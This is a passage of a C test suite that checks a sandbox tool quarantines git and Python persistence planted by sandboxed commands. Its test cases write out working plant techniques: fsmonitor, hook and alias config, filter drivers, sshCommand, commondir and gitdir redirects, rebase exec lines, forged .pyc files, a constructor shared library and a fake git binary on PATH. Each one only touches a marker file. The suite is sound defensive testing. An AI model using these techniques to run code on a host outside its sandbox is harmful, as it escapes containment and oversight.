/*
 * test_gitguard.c - a sandboxed command cannot make git on the host run a
 * program later (issue 13 class 1, SPEC §3.3). Suite "gitguard".
 *
 * Each case gets a fresh directory CASE with a git repository CASE/work
 * (one commit) and an empty CASE/m. It runs, with a test HOME and
 * GIT_CONFIG_NOSYSTEM=1,
 *   env -C CASE/work ... M=CASE/m passavant run [OPTS] -- sh INSIDE
 * where INSIDE plants something that would run `touch $M/NAME` through
 * git, then on the host, outside any sandbox, runs the HOST script (git
 * status, git commit, ... in the repositories concerned) and asserts
 * that CASE/m is still empty: nothing planted ran. Each attack case also
 * asserts the "passavant: quarantined PATH: SETTING" line. The planted
 * command is "touch $M/NAME;:" (git appends arguments to it).
 *
 * Editor and agent settings (.vscode, .claude/settings.json, .mcp.json,
 * ...) created or changed in nested directories are checked the same
 * way: moved aside and reported, unchanged ones left.
 *
 * The legitimate cases assert the opposite: harmless git work in the
 * session (init, commit, remote, worktree) leaves every file in place
 * and prints no quarantine line; --keep-git-config keeps a planted file
 * and says so.
 *
 * Without user namespaces every test is skipped with the reason printed,
 * unless PASSAVANT_SANDBOX_MUST_WORK=1. The tree lives under /var/tmp
 * (the sandbox's /tmp is private).
 */
#include <errno.h>
#include <limits.h>
#include <sched.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/support/testlib.h"
#include "tests/support/textutil.h"

#define GG_TIMEOUT_MS 60000
#define GG_PATH "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"

static bool skip;    /* no user namespaces, or no git */
static bool ready;
static char *root;   /* /var/tmp/pv-gitguard.XXXXXX */
static unsigned ncase;
static const char *path_first; /* a CASE-relative directory put first on
				  passavant's PATH, or NULL */
static const char *extra_env;  /* one more NAME=value for passavant, or NULL */
static const char *cg_procs;   /* a cgroup.procs file passavant is started in, or NULL */

static int suite_init(void)
{
	const char *must = getenv("PASSAVANT_SANDBOX_MUST_WORK");
	char why[256], home[PATH_MAX];

	if (ready || skip)
		return 0;
	if (!test_userns_available(why, sizeof(why)) ||
	    (access("/usr/bin/git", X_OK) < 0 && access("/usr/local/bin/git", X_OK) < 0 &&
	     snprintf(why, sizeof(why), "no git") > 0)) {
		if (must != NULL && strcmp(must, "1") == 0) {
			fprintf(stderr, "gitguard: cannot run (%s) and PASSAVANT_SANDBOX_MUST_WORK=1\n", why);
			return -1;
		}
		fprintf(stderr, "gitguard: SKIP: %s\n", why);
		skip = true;
		return 0;
	}
	root = strdup("/var/tmp/pv-gitguard.XXXXXX");
	if (root == NULL || mkdtemp(root) == NULL || chmod(root, 0755) < 0)
		return -1;
	snprintf(home, sizeof(home), "%s/home", root);
	if (mkdir(home, 0755) < 0)
		return -1;
	ready = true;
	return 0;
}

static int suite_cleanup(void)
{
	if (ready) {
		/* PV_GITGUARD_KEEP=1 leaves the tree for a look. */
		if (getenv("PV_GITGUARD_KEEP") == NULL) {
			/* A case stopped between its chattr +i and -i
			 * (test_quarantine_fails_closed) would leave a tree
			 * no one can remove. Best effort: no +i anywhere
			 * else. */
			if (geteuid() == 0) {
				char *argv[] = {"chattr", "-R", "-f", "-i", root, NULL};
				char *out = NULL, *err = NULL;

				(void)test_run_capture(argv, &out, &err, GG_TIMEOUT_MS);
				free(out);
				free(err);
			}
			test_rmtree(root);
		}
		free(root);
		root = NULL;
		ready = false;
	}
	return 0;
}

/* One case's directory and the outcome of its run. */
struct gcase {
	char dir[PATH_MAX];
	int status;  /* passavant's exit status */
	char *out;   /* its stdout */
	char *err;   /* its stderr */
	char *host;  /* the host script's output (stdout and stderr) */
};

static void gcase_free(struct gcase *c)
{
	free(c->out);
	free(c->err);
	free(c->host);
}

/* Runs sh -c script with the case's environment in dir; output into
 * *out (stdout then stderr, via 2>&1 in the script). */
static int host_sh(const struct gcase *c, const char *cwd, const char *script, char **out)
{
	char home[PATH_MAX + 8], m[PATH_MAX + 8], *err = NULL;
	char *argv[] = {"env",
			"-C",
			(char *)cwd,
			home,
			"PATH=" GG_PATH,
			"GIT_CONFIG_NOSYSTEM=1",
			"GIT_AUTHOR_NAME=t",
			"GIT_AUTHOR_EMAIL=t@example.org",
			"GIT_COMMITTER_NAME=t",
			"GIT_COMMITTER_EMAIL=t@example.org",
			"TMPDIR=/tmp",
			m,
			"sh",
			"-c",
			(char *)script,
			NULL};
	int st;

	snprintf(home, sizeof(home), "HOME=%s/home", root);
	snprintf(m, sizeof(m), "M=%s/m", c->dir);
	st = test_run_capture(argv, out, &err, GG_TIMEOUT_MS);
	free(err);
	return st;
}

/*
 * The case: a fresh CASE with the repository work (and setup, a host
 * script run in CASE before the session, may be NULL), then `passavant
 * run [opts] [-p policy] -- sh -c inside` in work, then the host script
 * in CASE (its output kept). policy: NULL for the embedded default; else
 * its text with %s for CASE (twice at most).
 */
static int case_session(struct gcase *c, const char *policy, const char *const *opts, const char *inside);

static int run_case(struct gcase *c, const char *setup, const char *policy, const char *const *opts,
		    const char *inside, const char *host)
{
	char m[PATH_MAX + 8], *out = NULL;

	memset(c, 0, sizeof(*c));
	snprintf(c->dir, sizeof(c->dir), "%s/c%u", root, ncase++);
	if (mkdir(c->dir, 0755) < 0 || snprintf(m, sizeof(m), "%s/m", c->dir) < 0 || mkdir(m, 0755) < 0)
		return -1;
	if (host_sh(c, c->dir,
		    "git init -q work && git -C work commit -q --allow-empty -m init && echo ok", &out) != 0 ||
	    strstr(out, "ok") == NULL) {
		fprintf(stderr, "\n  setup: %s\n", out ? out : "");
		free(out);
		return -1;
	}
	free(out);
	out = NULL;
	if (setup != NULL && host_sh(c, c->dir, setup, &out) != 0) {
		fprintf(stderr, "\n  setup: %s\n", out ? out : "");
		free(out);
		return -1;
	}
	free(out);
	if (case_session(c, policy, opts, inside) < 0)
		return -1;
	if (host != NULL && host_sh(c, c->dir, host, &c->host) < 0)
		return -1;
	return 0;
}

/* One `passavant run [opts] [-p policy] -- sh -c inside` in CASE/work
 * (policy as run_case()'s); its status and output replace c's. */
static int case_session(struct gcase *c, const char *policy, const char *const *opts, const char *inside)
{
	char work[PATH_MAX + 8], home[PATH_MAX + 8], m[PATH_MAX + 8], pol[PATH_MAX + 16];
	char path[2 * PATH_MAX];
	char text[4096], *argv[40];
	size_t n = 0;

	free(c->out);
	free(c->err);
	c->out = c->err = NULL;
	snprintf(work, sizeof(work), "%s/work", c->dir);
	snprintf(home, sizeof(home), "HOME=%s/home", root);
	snprintf(m, sizeof(m), "M=%s/m", c->dir);
	if (cg_procs != NULL) {
		argv[n++] = "sh";
		argv[n++] = "-c";
		argv[n++] = "echo $$ > \"$0\" && exec \"$@\"";
		argv[n++] = (char *)cg_procs;
	}
	argv[n++] = "env";
	argv[n++] = "-C";
	argv[n++] = work;
	argv[n++] = home;
	if (path_first != NULL)
		snprintf(path, sizeof(path), "PATH=%s/%s:" GG_PATH, c->dir, path_first);
	else
		snprintf(path, sizeof(path), "PATH=" GG_PATH);
	argv[n++] = path;
	argv[n++] = "GIT_CONFIG_NOSYSTEM=1";
	argv[n++] = "GIT_AUTHOR_NAME=t";
	argv[n++] = "GIT_AUTHOR_EMAIL=t@example.org";
	argv[n++] = "GIT_COMMITTER_NAME=t";
	argv[n++] = "GIT_COMMITTER_EMAIL=t@example.org";
	argv[n++] = "TMPDIR=/tmp";
	argv[n++] = m;
	if (extra_env != NULL)
		argv[n++] = (char *)extra_env;
	argv[n++] = (char *)test_passavant_bin();
	argv[n++] = "run";
	for (size_t i = 0; opts != NULL && opts[i] != NULL && n < 30; i++)
		argv[n++] = (char *)opts[i];
	if (policy != NULL) {
		snprintf(pol, sizeof(pol), "%s/policy.yaml", c->dir);
		snprintf(text, sizeof(text), policy, c->dir, c->dir);
		if (test_write_file(pol, text, strlen(text)) < 0)
			return -1;
		argv[n++] = "-p";
		argv[n++] = pol;
	}
	argv[n++] = "--";
	argv[n++] = "sh";
	argv[n++] = "-c";
	argv[n++] = (char *)inside;
	argv[n] = NULL;
	c->status = test_run_capture(argv, &c->out, &c->err, GG_TIMEOUT_MS);
	return 0;
}

/* What CASE/m holds: "" when nothing planted ran (static buffer). */
static const char *markers(const struct gcase *c)
{
	static char names[1024];
	char m[PATH_MAX + 8], *out = NULL;

	snprintf(m, sizeof(m), "%s/m", c->dir);
	names[0] = '\0';
	if (host_sh(c, m, "ls -A .", &out) == 0 && out != NULL)
		snprintf(names, sizeof(names), "%s", out);
	free(out);
	return names;
}

static bool exists(const struct gcase *c, const char *rel)
{
	char p[PATH_MAX * 2];
	struct stat st;

	snprintf(p, sizeof(p), "%s/%s", c->dir, rel);
	return lstat(p, &st) == 0;
}

static void show(const struct gcase *c)
{
	fprintf(stderr, "\n  status %d\n  stdout: %s\n  stderr: %s\n  host: %s\n  markers: %s\n", c->status,
		c->out ? c->out : "(null)", c->err ? c->err : "(null)", c->host ? c->host : "(null)",
		markers(c));
}

#define SKIP_IF_NEEDED() TEST_SKIP_UNLESS_SANDBOX(skip, ready)

/* Asserts nothing planted ran and each quarantine line of want[] is
 * there (substrings of stderr). */
static void expect_safe(struct gcase *c, const char *const *want)
{
	bool ok = markers(c)[0] == '\0';

	CU_ASSERT(ok);
	for (size_t i = 0; want != NULL && want[i] != NULL; i++) {
		bool seen = test_has(c->err, want[i]);
		CU_ASSERT(seen);
		ok = ok && seen;
	}
	if (!ok)
		show(c);
}

/* The planted command as it is written in a config value or hook. */
#define PLANT(name) "touch \\\"$M/" name "\\\";:"
/* A script that makes the hook file F run `touch $M/name`. */
#define HOOK(file, name) "printf '#!/bin/sh\\ntouch \"$M/" name "\"\\n' > " file " && chmod +x " file
/* On the host: status and a commit in repository D (in CASE). */
#define GIT_USE(d) "git -C " d " status >/dev/null 2>&1; git -C " d " commit -q --allow-empty -m host >/dev/null 2>&1; "

/* Repro (a) of issue 13: a planted common directory. */
static void test_commondir(void)
{
	static const char *const want[] = {"quarantined ", "/work/.git/commondir: commondir", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p .x/hooks && cp -a .git/objects .git/refs .x/ && "
				 "printf '[core]\\n\\tfsmonitor = " PLANT("fsmonitor") "\\n' > .x/config && "
				 HOOK(".x/hooks/pre-commit", "hook") " && echo ../.x > .git/commondir",
				 GIT_USE("work")) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/.git/commondir.passavant-quarantine"));
	gcase_free(&c);
}

/* Repro (b): a repository created in the session, added as a gitlink;
 * and a planted .git/modules/NAME. */
static void test_nested_repo(void)
{
	static const char *const want[] = {"/work/vendor/lib/.git/config: core.fsmonitor", NULL};
	static const char *const opts[] = {"--audit", "../audit.jsonl", NULL};
	struct gcase c;
	char *audit = NULL, p[PATH_MAX * 2];
	size_t len;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, opts,
				 "mkdir -p vendor/lib && cd vendor/lib && git init -q && "
				 "git commit -q --allow-empty -m x && "
				 "git config core.fsmonitor \"touch \\\"\\$M/fsmonitor\\\";:\" && cd ../.. && "
				 "git add vendor/lib; "
				 "mkdir -p .git/modules/lib/hooks && " HOOK(".git/modules/lib/hooks/pre-commit", "modhook"),
				 GIT_USE("work") GIT_USE("work/vendor/lib")) == 0);
	expect_safe(&c, want);
	/* One audit line per file: kind git, the path, the setting. */
	snprintf(p, sizeof(p), "%s/audit.jsonl", c.dir);
	audit = test_read_file(p, &len);
	CU_ASSERT(audit != NULL);
	CU_ASSERT(test_has(audit, "\"kind\":\"git\""));
	CU_ASSERT(test_has(audit, "/work/vendor/lib/.git/config\""));
	CU_ASSERT(test_has(audit, "\"reason\":\"core.fsmonitor\""));
	if (!test_has(audit, "\"kind\":\"git\""))
		fprintf(stderr, "\n  audit: %s\n", audit ? audit : "(none)");
	free(audit);
	gcase_free(&c);
}

/* core.hooksPath into the work tree, and hooks in a new repository. */
static void test_hooks_path(void)
{
	static const char *const want[] = {"/work/n/.git/config: core.hookspath",
					   "/work/h/.git/hooks/pre-commit: hook pre-commit", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "git init -q n && mkdir n/hk && " HOOK("n/hk/pre-commit", "hookspath") " && "
				 "git -C n config core.hooksPath hk && "
				 "git init -q h && " HOOK("h/.git/hooks/pre-commit", "hook"),
				 GIT_USE("work/n") GIT_USE("work/h")) == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* The user's own core.hooksPath (set before the session, into the work
 * tree, as husky does): a hook there rewritten in the session; and the
 * user's own include.path of a work tree file, rewritten. */
static void test_user_hooks_path(void)
{
	static const char *const want[] = {"/work/.hk/pre-commit: hook pre-commit",
					   "/work/shared.cfg: core.fsmonitor", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "mkdir work/.hk && printf '#!/bin/sh\\ntrue\\n' > work/.hk/pre-commit && "
				 "chmod +x work/.hk/pre-commit && git -C work config core.hooksPath .hk && "
				 "printf '[user]\\n\\tname = x\\n' > work/shared.cfg && "
				 "git -C work config include.path ../shared.cfg",
				 NULL, NULL,
				 HOOK(".hk/pre-commit", "hook") " && "
				 "printf '[core]\\n\\tfsmonitor = " PLANT("include") "\\n' > shared.cfg",
				 GIT_USE("work")) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/.git/config"));
	gcase_free(&c);
}

/* config.worktree, include.path, a `!` alias, a filter driver selected
 * by .gitattributes, each in a repository of its own. */
static void test_config_variants(void)
{
	static const char *const want[] = {"/work/w/.git/config.worktree: core.fsmonitor",
					   "/work/i/.git/config: include.path",
					   "/work/a/.git/config: alias.st",
					   "/work/f/.git/config: filter.x.clean", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "for r in w i a f; do git init -q $r && git -C $r commit -q --allow-empty -m x; done; "
				 "git -C w config extensions.worktreeConfig true && "
				 "git -C w config --worktree core.fsmonitor \"touch \\\"\\$M/worktree\\\";:\"; "
				 "printf '[core]\\n\\tfsmonitor = " PLANT("include") "\\n' > inc.cfg && "
				 "git -C i config include.path ../../inc.cfg; "
				 "git -C a config alias.st \"!touch \\\"\\$M/alias\\\"\"; "
				 "git -C f config filter.x.clean \"touch \\\"\\$M/filter\\\"; cat\" && "
				 "echo '* filter=x' > f/.gitattributes && echo data > f/file",
				 GIT_USE("work/w") GIT_USE("work/i") "git -C work/a st >/dev/null 2>&1; "
				 "git -C work/f add . >/dev/null 2>&1; " GIT_USE("work/f")) == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* An interactive rebase left stopped, its todo list given an exec line:
 * `git rebase --continue` on the host would run it. */
static void test_rebase_exec(void)
{
	static const char *const want[] = {"/work/n/.git/rebase-merge/git-rebase-todo: rebase todo list with exec",
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "git init -q n && cd n && git commit -q --allow-empty -m a && "
				 "git commit -q --allow-empty -m b && "
				 "GIT_SEQUENCE_EDITOR=\"sed -i '1i break'\" git rebase -q -i HEAD~1 >/dev/null 2>&1; "
				 "echo \"exec touch '$M/rebase'\" >> .git/rebase-merge/git-rebase-todo",
				 "git -C work/n rebase --continue >/dev/null 2>&1") == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* In CASE/work: repository p with a cherry-pick stopped on a conflict, its
 * sequencer/opts naming the merge strategy ../../x; the shell left in p. */
#define CHERRY_STOPPED_P                                                                           \
	"git init -q p && cd p && echo 0 > f && git add f && git commit -q -m a && "                 \
	"git checkout -q -b side && echo 1 > f && git commit -qam b && echo 2 > h && "               \
	"git add h && git commit -qm c && git checkout -q - && echo 3 > f && "                       \
	"git commit -qam m; git cherry-pick side~1 side >/dev/null 2>&1; echo 1 > f && "             \
	"git add f && git config -f .git/sequencer/opts options.strategy ../../x && "

/* The same, and a stopped cherry-pick's merge strategy, each behind a
 * symbolic link the session made as .git/rebase-merge and .git/sequencer:
 * git follows both, the check's opener does not (nofollow), and the rule
 * for links inside a git directory moves them aside. */
static void test_rebase_link(void)
{
	static const char *const want[] = {"/work/n/.git/rebase-merge: a symbolic link inside a git directory",
					   "/work/p/.git/sequencer: a symbolic link inside a git directory", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "git init -q n && cd n && git commit -q --allow-empty -m a && "
				 "git commit -q --allow-empty -m b && "
				 "GIT_SEQUENCE_EDITOR=\"sed -i '1i break'\" git rebase -q -i HEAD~1 >/dev/null 2>&1; "
				 "echo \"exec touch '$M/rebase'\" >> .git/rebase-merge/git-rebase-todo && "
				 "mv .git/rebase-merge .git/rm && ln -s rm .git/rebase-merge && cd .. && "
				 CHERRY_STOPPED_P
				 "mkdir -p git-merge-.. && printf '#!/bin/sh\\ntouch \"$M/cherry\"\\nexit 1\\n' > x && "
				 "chmod +x x && mv .git/sequencer sq && ln -s ../sq .git/sequencer",
				 "git -C work/n rebase --continue >/dev/null 2>&1; "
				 "git -C work/p cherry-pick --continue >/dev/null 2>&1") == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/*
 * Round 31 of the attack: a compiled module written in the session for a
 * source it left alone (the header carries the source's mtime and size),
 * an unchecked hash-based one (Python never compares it with its
 * source), and a sourceless helper.pyc beside the script: the host's
 * python3 ran each, git showing nothing (__pycache__ and *.pyc ignored).
 * Its review: a forged one reached through a link named like the cache,
 * and an extension module u5.cpython-3X-....so beside u5.py (Python
 * tries extension suffixes first). The four .pyc are removed after the
 * run, the module moved aside; a .pyc older than the session and an
 * extension module with no NAME.py beside it stay.
 */
static void test_pyc_forged(void)
{
	static const char *const want[] = {"removed 4 compiled Python files (.pyc) written in the session",
					   "an extension module beside its NAME.py", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && printf '__pycache__/\\n*.pyc\\n' > .gitignore && "
				 "for m in util u2 u3 u4 u5; do printf 'def add(a, b):\\n    return a + b\\n' > $m.py; done && "
				 "printf 'import util, u2, u3, u4\\ntry:\\n    import helper\\nexcept ImportError:\\n"
				 "    pass\\ntry:\\n    import u5\\nexcept ImportError:\\n"
				 "    pass\\nprint(\"sum\", util.add(2, 2))\\n' > app.py && "
				 "python3 -c 'import py_compile\nfor m in (\"util\", \"u2\", \"u3\", \"u4\"): "
				 "py_compile.compile(m + \".py\", doraise=True)'",
				 NULL, NULL,
				 "python3 -c '\n"
				 "import importlib.util, marshal, os, struct\n"
				 "def forge(src, flags, out=None):\n"
				 "    st = os.stat(src)\n"
				 "    code = compile(\"open(%r, \\\"w\\\").close()\\ndef add(a, b):\\n    return a + b\\n\" "
				 "% (os.environ[\"M\"] + \"/\" + src), src, \"exec\")\n"
				 "    pyc = out or importlib.util.cache_from_source(src)\n"
				 "    os.makedirs(os.path.dirname(pyc) or \".\", exist_ok=True)\n"
				 "    hdr = struct.pack(\"<III\", flags, int(st.st_mtime) & 0xFFFFFFFF, st.st_size) if flags == 0 "
				 "else struct.pack(\"<I\", flags) + b\"\\0\" * 8\n"
				 "    with open(pyc, \"wb\") as f:\n"
				 "        f.write(importlib.util.MAGIC_NUMBER + hdr + marshal.dumps(code))\n"
				 "forge(\"util.py\", 0)\n"
				 "forge(\"u2.py\", 1)\n"
				 "forge(\"u3.py\", 0, \"helper.pyc\")\n"
				 "forge(\"u4.py\", 0, \"u4.bin\")\n"
				 "os.unlink(importlib.util.cache_from_source(\"u4.py\"))\n"
				 "os.symlink(\"../u4.bin\", importlib.util.cache_from_source(\"u4.py\"))\n"
				 "import subprocess, importlib.machinery, json\n"
				 "q = json.dumps\n"
				 "open(\"so.c\", \"w\").write(\"#include <stdio.h>\\n#include <stdlib.h>\\n"
				 "__attribute__((constructor)) static void f(void) { char p[4096]; snprintf(p, sizeof p, \" + "
				 "q(\"%s/u5.py\") + \", getenv(\" + q(\"M\") + \")); FILE *x = fopen(p, \" + q(\"w\") + "
				 "\"); if (x) fclose(x); }\\n\")\n"
				 "for m in (\"u5\", \"fast\"):\n"
				 "    subprocess.check_call([\"gcc\", \"-shared\", \"-fPIC\", \"-o\", "
				 "m + importlib.machinery.EXTENSION_SUFFIXES[0], \"so.c\"])\n"
				 "'",
				 "cd work && python3 app.py; ls __pycache__ | grep -c '^u3\\.' | sed 's/^/u3pyc=/'; "
				 "ls | grep -c '^fast\\..*\\.so$' | sed 's/^/fastso=/'") == 0);
	expect_safe(&c, want);
	CU_ASSERT(test_has(c.host, "sum 4") && test_has(c.host, "u3pyc=1") && test_has(c.host, "fastso=1"));
	if (!test_has(c.host, "u3pyc=1") || !test_has(c.host, "fastso=1"))
		show(&c);
	gcase_free(&c);
}

/* The user's hook, a link to a tracked script the session rewrote: moved
 * aside once (round 31: the link was then moved a second time as "a
 * symbolic link inside a git directory"). */
static void test_hook_link_target(void)
{
	static const char *const want[] = {"/work/.git/hooks/pre-commit: hook pre-commit", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && mkdir -p scripts && printf '#!/bin/sh\\nexit 0\\n' > scripts/pre-commit && "
				 "chmod +x scripts/pre-commit && ln -s ../../scripts/pre-commit .git/hooks/pre-commit && "
				 "git add -A && git commit -q -m hooks",
				 NULL, NULL, HOOK("scripts/pre-commit", "hooklink"), GIT_USE("work")) == 0);
	expect_safe(&c, want);
	CU_ASSERT(!test_has(c.err, "quarantine.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/.git/hooks/pre-commit.passavant-quarantine"));
	gcase_free(&c);
}

/* A bare repository created in the session (an alias there), and a
 * repository that existed before the session given core.sshCommand. */
static void test_bare_and_old_repo(void)
{
	static const char *const want[] = {"/work/b.git/config: alias.x",
					   "/work/old/.git/config: core.sshcommand", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "git init -q work/old && git -C work/old commit -q --allow-empty -m x && "
				 "git -C work/old remote add o ssh://example.invalid/r.git",
				 NULL, NULL,
				 "git init -q --bare b.git && git -C b.git config alias.x \"!touch \\\"\\$M/alias\\\"\"; "
				 "git -C old config core.sshCommand \"touch \\\"\\$M/ssh\\\"; false\"",
				 "git -C work/b.git x >/dev/null 2>&1; git -C work/old fetch -q o >/dev/null 2>&1; "
				 GIT_USE("work/old")) == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* A linked worktree's commondir repointed at a planted common directory
 * (no HEAD there, so it is no git directory of its own). */
static void test_worktree_commondir(void)
{
	static const char *const want[] = {"/work/n/.git/worktrees/wt/commondir: commondir", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "git init -q n && git -C n commit -q --allow-empty -m x && "
				 "git -C n worktree add -q ../wt && mkdir -p p/hooks && "
				 "cp -a n/.git/objects n/.git/refs p/ && "
				 "printf '[core]\\n\\tfsmonitor = " PLANT("fsmonitor") "\\n' > p/config && "
				 HOOK("p/hooks/pre-commit", "hook") " && "
				 "echo \"$PWD/p\" > n/.git/worktrees/wt/commondir",
				 GIT_USE("work/wt")) == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* A .git file and a .git symlink pointing at a planted git directory;
 * a .git file pointing out of the writable trees. */
static void test_gitdir_pointers(void)
{
	static const char *const want[] = {"/work/.hidden/config: core.fsmonitor",
					   "/work/.hidden/hooks/pre-commit: hook pre-commit",
					   "/work/l/.git: .git is a symbolic link",
					   "/work/o/.git: gitdir: (points outside", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "git init -q --bare outside.git", NULL, NULL,
				 "mkdir -p .hidden/hooks s l o && cp -a .git/objects .git/refs .git/HEAD .hidden/ && "
				 "printf '[core]\\n\\tfsmonitor = " PLANT("fsmonitor") "\\n' > .hidden/config && "
				 HOOK(".hidden/hooks/pre-commit", "hook") " && "
				 "echo 'gitdir: ../.hidden' > s/.git && ln -s ../.hidden l/.git && "
				 "echo \"gitdir: $PWD/../outside.git\" > o/.git",
				 GIT_USE("work/s") GIT_USE("work/l")) == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* A repository in an allowWrite tree other than the working directory,
 * one created in the session and one at the tree's root. */
static void test_other_tree(void)
{
	static const char *const want[] = {"/other/r/.git/config: core.fsmonitor", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "git init -q other && git -C other commit -q --allow-empty -m x",
				 "filesystem:\n  allowWrite: [\"%s/work\", \"%s/other\"]\n", NULL,
				 "cd ../other && git init -q r && "
				 "git -C r config core.fsmonitor \"touch \\\"\\$M/fsmonitor\\\";:\"; "
				 "git config core.fsmonitor \"touch \\\"\\$M/root\\\";:\"; "
				 HOOK(".git/hooks/pre-commit", "roothook") "; "
				 "git config --worktree core.pager x 2>/dev/null; mkdir .git/worktrees/x 2>/dev/null; true",
				 GIT_USE("other/r") GIT_USE("other")) == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* The check parses configs with the host's git: never with a git the
 * command planted in a writable directory on passavant's PATH. */
static void test_planted_git_binary(void)
{
	static const char *const want[] = {"/work/n/.git/config: core.fsmonitor", NULL};
	struct gcase c;
	int rc;

	SKIP_IF_NEEDED();
	/* A directory on PATH is writable only when allowWrite names it
	 * exactly (the mandatory table): name it, so the plant succeeds and
	 * the check itself is what is tested. */
	path_first = "work/bin";
	rc = run_case(&c, "mkdir work/bin",
		      "filesystem:\n  allowWrite: [\"%s/work\", \"%s/work/bin\"]\n", NULL,
		      /* $M expanded now: the check runs git with an environment of its own. */
		      "printf '#!/bin/sh\\ntouch %s/fakegit\\nexec /usr/bin/git \"$@\"\\n' \"$M\" > bin/git && "
		      "chmod +x bin/git && /usr/bin/git init -q n && "
		      "/usr/bin/git -C n config core.fsmonitor \"touch \\\"\\$M/fsmonitor\\\";:\"",
		      GIT_USE("work/n"));
	path_first = NULL;
	CU_ASSERT_FATAL(rc == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* A repository nested 100 directories deep (past the depth where the
 * walk stops holding a descriptor per level). */
static void test_deep_repo(void)
{
	static const char *const want[] = {"/d/d/d/d/r/.git/config: core.fsmonitor", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "p=$(printf 'd/%.0s' $(seq 100))r && mkdir -p $p && git init -q $p && "
				 "git -C $p config core.fsmonitor \"touch \\\"\\$M/deep\\\";:\" && ln -s $p deep",
				 "cd work/deep && " GIT_USE(".")) == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* Review of round 45 (the family of the run's refusal line: a part the
 * command chose fills a fixed line and what follows never shows): the
 * quarantine line was built in 2,048 bytes, so a repository below
 * directories of 250 bytes each (a path the command chose, 2,000 bytes
 * and more) ended the line inside the path: no setting, no "moved to",
 * no advice. The line is sized to its parts. */
static void test_long_path_line(void)
{
	static const char *const want[] = {"/r/.git/config: core.fsmonitor (moved to ",
					   "/r/.git/config.passavant-quarantine)\n", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "d=$(printf 'x%.0s' $(seq 250)) && p=$d/$d/$d/$d/$d/$d/$d/$d/r && mkdir -p $p && "
				 "git init -q $p && git -C $p config core.fsmonitor \"touch \\\"\\$M/long\\\";:\"",
				 NULL) == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* Hooks that existed before the session, moved into place by renaming
 * their directory: the files keep their old times; the directory's
 * ctime tells. */
static void test_renamed_dir(void)
{
	static const char *const want[] = {"/work/n/.git/hooks/pre-commit: hook pre-commit", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "git init -q work/n && git -C work/n commit -q --allow-empty -m x && "
				 "mkdir -p work/stash/hooks && " HOOK("work/stash/hooks/pre-commit", "hook"),
				 NULL, NULL, "rm -rf n/.git/hooks && mv stash/hooks n/.git/hooks", GIT_USE("work/n")) == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* The mount plan: in the working directory's repository the control
 * files cannot be written or created during the session (and no
 * placeholder is left). */
static void test_mount_plan(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "for f in config config.worktree info/attributes modules/x/config worktrees/x/commondir "
				 "hooks/pre-commit; do (echo x > .git/$f) 2>/dev/null && echo WROTE $f; done; "
				 "git commit -q --allow-empty -m inside && echo COMMITTED",
				 "ls -A work/.git") == 0);
	CU_ASSERT(c.status == 0);
	CU_ASSERT(!test_has(c.out, "WROTE"));
	CU_ASSERT(test_has(c.out, "COMMITTED"));
	CU_ASSERT(!test_has(c.host, "modules") && !test_has(c.host, "worktrees") && !test_has(c.host, "config.worktree"));
	if (test_has(c.out, "WROTE") || !test_has(c.out, "COMMITTED") || test_has(c.host, "modules"))
		show(&c);
	gcase_free(&c);
}

/* Ordinary work leaves everything in place: init, commit, a remote, a
 * branch, a linked worktree, files edited; no quarantine line. */
static void test_legit_session(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "echo hello > file && git add file && git commit -q -m file && "
				 "git init -q n && cd n && echo x > y && git add y && git commit -q -m y && "
